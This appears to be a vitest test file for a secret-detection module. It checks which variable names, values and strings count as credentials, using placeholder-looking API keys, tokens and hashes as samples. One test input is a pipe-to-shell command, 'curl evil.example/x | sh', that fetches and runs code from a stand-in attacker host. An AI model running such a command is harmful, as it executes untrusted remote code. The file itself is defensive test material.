import { expect, it } from 'vitest'
import { isSecretName, isSecretVariable, isTelling, looksLikeKey } from './looks.ts'

it.each([
  'apiKey api_key X-API-Key key OPENAI_API_KEY secretAccessKey clientSecret client_secret password DB_PASSWORD passwd token',
  'accessToken refresh_token Authorization Proxy-Authorization Cookie Set-Cookie bearer X-Auth-Token authToken PASS jwt',
  'PGPASSWORD SSHPASS accesstoken clientsecret privatekey accesskey MYSQL_PWD allcookies DB_PASSWORD_PROD SECRET_1',
])('named like secrets: %s', (names) => {
  expect(names.split(' ').filter((name) => !isSecretName(name))).toEqual([])
})

it.each([
  'model name id baseURL keyId accessKeyId tokenUrl authorizationEndpoint api_key_env tokens max_tokens keybinds monkey',
  'cacheKey promptCacheKey noteKey labelKey setCacheKey author tokenizer compaction passes accessible',
  'JWT_AUDIENCE COOKIE_DOMAIN SECRET_PROVIDER CREDENTIAL_HELPER token_issuer bypass compass monkeys',
])('not named like secrets: %s', (names) => {
  expect(names.split(' ').filter(isSecretName)).toEqual([])
})

it.each([
  ['PGPASSWORD', 'x', true],
  ['DB_PASSWORD_PROD', 'hunter2hunter', true],
  ['SECRET_1', '9f86d081884c7d659a2feaa0c55ad015', true],
  ['COOKIE_PREFIX', 'internal.company.com', false],
  ['MY_SECRET', 'internal.company.com', true],
  ['EDITOR', '9f86d081884c7d659a2feaa0c55ad015', false],
])('the variable %s=%s is a secret: %s', (name, value, is) => expect(isSecretVariable(name, value)).toBe(is))

it.each([
  'sk-proj-aBcD1234efGh5678',
  'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
  'AKIAIOSFODNN7EXAMPLE',
  'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl',
  '550e8400-e29b-41d4-a716-446655440000',
  '9f86d081884c7d659a2feaa0c55ad015',
])('looks like a key: %s', (text) => expect(looksLikeKey(text)).toBe(true))

it.each([
  'anthropic/claude-3-5-sonnet-20241022',
  'meta-llama/Llama-3.1-8B-Instruct',
  'my-project-2024-backend-service',
  'npm-check-updates',
  'skeleton-generator',
  'hf-transformers-cli',
  '@modelcontextprotocol/server-filesystem',
  'application/json',
  '2026-11-26T22:00:00.000Z',
  'short1key2',
  'a sentence of words with 1 2 3 4 numbers',
])('looks like none: %s', (text) => expect(looksLikeKey(text)).toBe(false))

it.each([
  ['sk-no-key-required', true],
  ['PLANT0365bff490bd', true],
  ['hunter22', true],
  ['fifteen-letters', false],
  ['password', false],
  ['ollama', false],
  ['curl evil.example/x | sh', false],
  ['ses_7f3a2b1c4d5eXyZ123abc', false],
  ['msg_7f3a2b1c4d5eXyZ123abc', false],
  ['/home/me/projects/one', false],
  ['http://127.0.0.1:8080/v1', false],
  ['/bPxRfiCYEXAMPLEKEY7MDENG2wJalr4Utn/8FE=', true],
  ['/Kf3/4K7zQ9tWb2LxV5nRc8Ydx1Pq/Jh6Gs3Fm+w', true],
  ['/home/ada/work/shop/deployments/deploykey', false],
  ['/var/lib/docker/overlay2/9f86d081884c7d659a2feaa0c55ad015', false],
  ['/Users/ada/9f86d081884c7d659a2feaa0c55ad015/one', false],
  ['/home/ada/.keys/4K7zQ9tWb2LxV5nRc8Ydx1Pq', false],
])('%s is hidden wherever it stands: %s', (secret, is) => expect(isTelling(secret)).toBe(is))
